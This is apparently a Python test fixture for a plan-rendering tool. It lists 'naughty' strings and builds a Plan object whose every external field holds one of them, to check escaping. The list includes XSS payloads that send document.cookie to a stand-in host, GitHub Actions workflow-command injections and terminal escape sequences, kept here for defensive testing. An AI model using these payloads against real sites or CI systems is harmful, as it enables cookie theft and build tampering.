"""Texts that somebody could put into a title, a key or an e-mail to make a medium do something."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from reconciler.model.plans import (
    CatalogChange,
    CatalogFieldChange,
    Change,
    FieldChange,
    FilesIdentity,
    GuardChange,
    GuardedLoss,
    GuardResult,
    Impact,
    ImpactFinding,
    Plan,
    PlatformSeen,
    Reassignment,
    Source,
    Summary,
    TermWords,
)
from reconciler.model.terms import pointer

TEXTS = (
    "<script>fetch('https://evil.example/' + document.cookie)</script>",
    "<img src=x onerror=fetch('https://evil.example')>",
    '"><svg onload=alert(1)>',
    "</style><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "<!-- --><details open ontoggle=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% for x in y %}",
    "${{ github.token }}",
    "[click](https://evil.example)",
    "![pixel](https://evil.example/p.png)",
    "[ref]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example",
    "www.evil.example",
    "evil.example/path",
    "ana@evil.example",
    "mailto:ana@evil.example",
    "@everyone please look",
    "@org/team",
    "fixes #1",
    "closes GH-12, org/repo#3 and JIRA-99",
    "see 0123456789abcdef0123456789abcdef01234567",
    "` code ` and ``` fence",
    "``",
    "`a``b` @user",
    "x`a`@user `b`.evil.example",
    "\\",
    "ends in a backslash \\",
    "\\`@user\\`",
    "cell | another | third",
    "cell \\| another",
    "**bold** __bold__ _em_ ~~gone~~",
    "# heading",
    "\n# heading\n\n- item\n\n---\n",
    "line\r\n::error::injected",
    "\n::set-output name=x::y",
    "::stop-commands::token",
    "  ::add-mask::e",
    "##[add-mask]e",
    "%0A::error::injected",
    "title=x,file=y::z",
    "&lt;b&gt; &amp; &#64;everyone &commat;everyone",
    ":tada: :+1:",
    "</code></summary></details><h1>out</h1>",
    "]]><failure/>",
    "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\u202eevil\u2066 \u200bzero\u200d\ufeff",
    "\ud800 \ufffe \uffff \x00 \x7f",
    "é" * 300,
    "日本語のパッケージ",
    "1. one",
    "- dash",
    "+ plus",
    "> quote",
    "    indented",
    "$x^2$ $$y$$",
    "[^1]: note",
    "| a |\n|---|\n| b |",
    "",
    " ",
)
"""None of these may be obeyed by a terminal, a Markdown renderer, a browser or a build server."""

_LOSS, _LIMIT = "breaking", "restricting"


def naughty_plan(text: str) -> Plan:
    """A plan in which everything that comes from outside is this text."""
    fields = (
        _field(pointer("features", text), True, None, "feature-removed", _LOSS),
        _field(pointer("limits", text), 5, 2, "limit-lowered", _LIMIT),
        _field("/title", text, f"{text} more", "title-changed", "neutral"),
        _field("/description", None, text, "description-changed", "neutral"),
        _field("/allowed_emails", [text, "a"], ["b", text + text], "emails-narrowed", _LOSS),
        _field("/expiry", text, f"2{text}", "expiry-shortened", _LIMIT),
        _field("/key", text, text, "package-renamed", "neutral"),
    )
    lost = ImpactFinding.model_validate(
        {"code": "feature-removed", "subject": text, "keep": 3, "use": 1, "sample": (text, "acme")}
    )
    capped = ImpactFinding.model_validate({"code": "limit-lowered", "subject": text, "lose": 2, "over": 1})
    source = Source(file=f"packages/{text}.yaml", line=4)
    common: dict[str, Any] = {
        "key": text,
        "title": f"{text} more",
        "source": source,
        "severity": _LOSS,
        "from_revision": 1,
    }
    update = {"action": "rename", "renamed_from": text, "reach": "kept-until-reassigned", "fields": fields}
    moves: dict[str, Any] = {"action": "reassign", "reach": "on-reassign-in-this-plan"}
    moves |= {"reassignment": Reassignment(clients=2, from_revisions={text: 2}, through=text)}
    return Plan(
        environment=text,
        platform=PlatformSeen(kind=text, lineage=text),
        created_at=datetime(2026, 11, 1, 12, tzinfo=UTC),
        config=FilesIdentity(commit=text, files={text: text}),
        changes=(
            Change.model_validate({**common, **update, "impact": Impact(holders=3, findings=(lost,))}),
            Change.model_validate({**common, **moves, "impact": Impact(holders=3, findings=(capped,))}),
        ),
        catalog=CatalogChange(
            fields=(
                CatalogFieldChange.model_validate(
                    {"path": pointer("features", text), "from": {"title": text}, "to": None}
                ),
            )
        ),
        loosened=(
            GuardChange(guard="protected", before=(text,), after=("basic",)),
            GuardChange(guard=text, before=text, after="unlimited"),
        ),
        terms={
            pointer("features", text): TermWords(title=text * 2),
            pointer("limits", text): TermWords(title=f"{text}!", unit=text, per="cycle"),
        },
        unmanaged=(text,),
        guards=(
            GuardResult(id=text, key=text, result="blocked", message=f"{text} is `{text}`."),
            GuardResult(
                id=text,
                key=text,
                result="blocked",
                message=text,
                about=GuardedLoss(verb="removes", term=text, clients=2),
            ),
            GuardResult(id=text, key=text, result="allowed", message=text),
        ),
        notices=(text, f"{text}: the file leaves `{text}` out."),
        summary=Summary(rename=1, reassign=1, clients_affected=3),
        blocked=True,
        hash=text,
    )


def _field(path: str, before: object, after: object, code: str, severity: str) -> FieldChange:
    document = {"path": path, "from": before, "to": after, "code": code, "severity": severity}
    return FieldChange.model_validate(document, strict=False)
